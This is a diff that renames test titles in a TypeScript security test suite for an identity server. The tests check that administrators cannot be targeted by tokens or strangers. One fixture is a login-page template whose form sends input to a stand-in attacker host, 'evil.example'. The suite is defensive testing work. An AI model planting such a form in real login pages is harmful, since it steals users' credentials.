@@ -119,7 +119,7 @@ function bodiesWith(schema: TSchema, text: string): unknown[] {
 }
 
 describe('a token with every scope', () => {
-  test('is refused wherever the path names an administrator, their store or the console', async () => {
+  test('is refused if the path names an administrator, their connection or the console', async () => {
     const attempts = server.app.routes.flatMap(({ method, url }) => {
       const names = url.match(/:\w+/g) ?? [];
       return names
@@ -135,7 +135,7 @@ describe('a token with every scope', () => {
     expect(await unrefused(attempts)).toEqual([]);
   });
 
-  test('is refused wherever the query or the body names one of them', async () => {
+  test('is refused if the query or the body names one of them', async () => {
     const attempts = server.app.routes.flatMap(({ method, url, body, query }) => {
       const path = url.replace(/:\w+/g, organizationId);
       return TARGETS().flatMap((target): [string, string, unknown?][] => [
@@ -155,7 +155,7 @@ describe('a token with every scope', () => {
     expect(await unrefused(attempts)).toEqual([]);
   });
 
-  test('is refused with requests that are in order but for whom they are about', async () => {
+  test('is refused even if only the target makes a request wrong', async () => {
     const admin = encodeURIComponent(adminId);
     const [, localId] = adminId.split('|');
     const somebody = await server.api<{ user_id: string }>('POST', '/api/v2/users', {
@@ -255,7 +255,7 @@ describe('a token with every scope', () => {
     expect(await unrefused([['POST', '/jobs/users-imports', form]])).toEqual([]);
   });
 
-  test('finds nothing of theirs in lists, and nothing by ids of their sessions', async () => {
+  test('finds no administrators in lists and no sessions of theirs by id', async () => {
     const { db } = server.app.deps;
     const payloads = await sql<{ id: string }>`
       select distinct coalesce(uid, id_hash) as id from oidc_payloads where account_id = ${adminId}`.execute(
@@ -299,7 +299,7 @@ describe('a token with every scope', () => {
   });
 });
 
-test('who may write the HTML of login pages does not read what administrators type there', async () => {
+test('a token that writes login page HTML does not read what administrators type there', async () => {
   const template =
     '<!DOCTYPE html><html><head>{%- auth0:head -%}</head><body><form action="https://evil.example/">{%- auth0:widget -%}</form></body></html>';
   // What they may set is set only here.
@@ -318,7 +318,7 @@ test('who may write the HTML of login pages does not read what administrators ty
   before = await everythingOfTheirs();
 });
 
-describe('somebody without a token', () => {
+describe('a stranger without a token', () => {
   const post = (path: string, body: object) =>
     fetch(`${server.url}${path}`, {
       method: 'POST',
@@ -326,7 +326,7 @@ describe('somebody without a token', () => {
       body: JSON.stringify(body),
     });
 
-  test('can not sign up among administrators, whichever client is named', async () => {
+  test('cannot sign up as an administrator through any client', async () => {
     for (const client_id of [CONSOLE, app.clientId, BOOTSTRAP.id, undefined]) {
       for (const connection of [ADMINISTRATORS.name, ADMINISTRATORS.id]) {
         const asked = { client_id, connection, email: 'new@example.com', password: PASSWORD };
@@ -336,7 +336,7 @@ describe('somebody without a token', () => {
     }
   });
 
-  test('can not have a link mailed to an administrator', async () => {
+  test('cannot have a link mailed to an administrator', async () => {
     for (const client_id of [CONSOLE, app.clientId, undefined]) {
       await post('/dbconnections/change_password', {
         client_id,
@@ -358,7 +358,7 @@ describe('somebody without a token', () => {
     expect(server.sink.mails.filter((mail) => JSON.stringify(mail).includes(EMAIL))).toEqual([]);
   });
 
-  test('can not keep people out by deleting the API that is asked for by default', async () => {
+  test('cannot lock users out by deleting the default API', async () => {
     const made = await server.api<{ id: string }>('POST', '/api/v2/resource-servers', {
       identifier: 'urn:gone',
     });
@@ -372,7 +372,7 @@ describe('somebody without a token', () => {
     expect(answer.headers.get('location')).toContain('/u/login');
   });
 
-  test('can not shut administrators out of the console by the API that is asked for by default', async () => {
+  test('cannot lock administrators out of the console through the default API', async () => {
     await call('POST', '/resource-servers', {
       identifier: 'urn:closed',
       subject_type_authorization: { user: { policy: 'deny_all' } },
@@ -385,7 +385,7 @@ describe('somebody without a token', () => {
     expect(answer.headers.get('location')).toContain('/u/login');
   });
 
-  test('can not log in with an administrator’s password but at the console', async () => {
+  test('cannot use an administrator’s password outside the console', async () => {
     for (const client of [
       { client_id: BOOTSTRAP.id, client_secret: BOOTSTRAP.secret },
       { client_id: app.clientId },
